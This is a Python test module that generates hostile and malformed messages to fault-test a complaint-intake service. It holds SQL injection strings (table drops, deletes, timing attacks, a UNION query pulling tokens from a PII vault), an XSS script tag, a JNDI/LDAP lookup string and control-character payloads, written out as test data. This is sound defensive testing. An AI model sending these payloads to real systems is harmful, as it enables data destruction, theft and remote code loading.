"""Hostile and malformed channel input, generated from a seed: what the fault tests throw at intake.

Two kinds come out of ``hostile_inputs``:
- *malformed*: broken JSON, invalid UTF-8, wrong types, missing fields, oversize or empty text —
  intake must reject every one, with a reason, and stay up;
- *hostile but valid*: well-formed messages whose text carries SQL fragments, control characters,
  markup or odd Unicode — intake must accept them and carry the text verbatim (masked), never
  interpreting it.
"""

from __future__ import annotations

import json
import random
from dataclasses import dataclass
from typing import Any

from schemas.channels import Channel
from tests.samples import raw_message

SQL_FRAGMENTS = (
    "'; DROP TABLE cases; --",
    '" OR 1=1 --',
    "1); DELETE FROM case_events WHERE (1=1",
    "$$; TRUNCATE processed_messages; $$",
    "'||pg_sleep(10)||'",
    "Robert'); DROP TABLE outbox;--",
    "\\x00\\x27; COPY cases TO '/tmp/x';",
    "E'\\\\' UNION SELECT token FROM pii.vault --",
)
ODD_TEXT = (
    "\u202eevil\u202c right-to-left override",
    "zero\u200bwidth\u200djoiner\ufeff",
    "<script>alert('x')</script>",
    "{{7*7}} ${jndi:ldap://x/a} %s%s%n",
    "emoji 🙂🔥💸 and surrogate-free astral 𠀀",
    "tab\tnew\nline\rcarriage\x0bvt\x0cff",
    "\x01\x02\x07\x1b[31mansi\x1b[0m",
    "nul\x00byte in the middle",
)
# The text fields of each channel's body (intake reads the one its channel uses).
TEXT_FIELD = {
    Channel.HOTLINE: "transcript",
    Channel.APP: "text",
    Channel.SOCIAL: "text",
    Channel.BRANCH: "text",
    Channel.LETTER: "body",
    Channel.REGULATOR: "text",
}
WRONG_TYPES: tuple[Any, ...] = (12345, 1.5, True, None, [], {}, ["a"], {"nested": "object"})


@dataclass(frozen=True)
class HostileInput:
    channel: Channel
    value: bytes
    should_accept: bool
    kind: str
    text: str | None = None  # the text a valid one carries, to check it arrives verbatim


def _json(body: Any) -> bytes:
    return json.dumps(body, ensure_ascii=False).encode()


def _malformed(rng: random.Random, channel: Channel, message_id: str) -> tuple[str, bytes]:
    body = raw_message(channel, message_id)
    choice = rng.randrange(12)
    if choice == 0:
        return "random_bytes", rng.randbytes(rng.randrange(1, 400))
    if choice == 1:
        encoded = _json(body)
        return "truncated_json", encoded[: rng.randrange(1, len(encoded) - 1)]
    if choice == 2:
        return "invalid_utf8", _json(body).replace(b'"message_id"', b'"message_id\xff\xfe"', 1) + b"\xc3\x28"
    if choice == 3:
        return "not_an_object", _json(rng.choice([[body], "a string", 42, None, True]))
    if choice == 4:
        field = rng.choice(["message_id", "sent_at", TEXT_FIELD[channel]])
        del body[field]
        return f"missing_{field}", _json(body)
    if choice == 5:
        field = rng.choice(["message_id", "sent_at", TEXT_FIELD[channel]])
        body[field] = rng.choice([value for value in WRONG_TYPES if not isinstance(value, str)])
        return f"wrong_type_{field}", _json(body)
    if choice == 6:
        body["sent_at"] = rng.choice(["yesterday", "2026-13-45T99:99:99", "1700000000", "", "2026-11-22"])
        return "bad_time", _json(body)
    if choice == 7:
        body[TEXT_FIELD[channel]] = rng.choice(["", "   ", "\n\t "])
        return "empty_text", _json(body)
    if choice == 8:
        if rng.random() < 0.1:  # a few only: each is past the 256 KB body limit, and the broker keeps them all
            body[TEXT_FIELD[channel]] = "投诉" * rng.randrange(45_000, 60_000)
            return "huge_body", _json(body)
        body["message_id"] = f"{message_id}\x00\x1b[2J" * 30  # control characters, and past 200 characters
        return "control_characters_in_long_id", _json(body)
    if choice == 9:
        body["channel"] = rng.choice(["fax", "carrier_pigeon", "'; DROP TABLE cases; --"])
        return "unknown_channel", _json(body)
    if choice == 10:
        body["message_id"] = rng.choice(["", "x" * 500])
        return "bad_message_id", _json(body)
    body["case_id"] = rng.choice(["not-a-uuid", "'; DROP TABLE cases; --", "00000000-0000-0000-0000-00000000000g"])
    return "bad_case_id", _json(body)


def hostile_inputs(count: int, seed: int = 20261122, valid_share: float = 0.1) -> list[HostileInput]:
    rng = random.Random(seed)
    channels = list(Channel)
    inputs = []
    for number in range(count):
        channel = rng.choice(channels)
        message_id = f"hostile-{seed}-{number}"
        if rng.random() < valid_share:
            text = f"{rng.choice(SQL_FRAGMENTS)} {rng.choice(ODD_TEXT)} 贷款 {number}"
            if rng.random() < 0.2:  # an identifier is opaque text to us: control characters included
                message_id = f"{message_id}\x00\x1b[2J'; DROP TABLE processed_messages; --"
            body = raw_message(channel, message_id, **{TEXT_FIELD[channel]: text})
            inputs.append(HostileInput(channel, _json(body), True, "hostile_text", text))
        else:
            kind, value = _malformed(rng, channel, message_id)
            inputs.append(HostileInput(channel, value, False, kind))
    return inputs
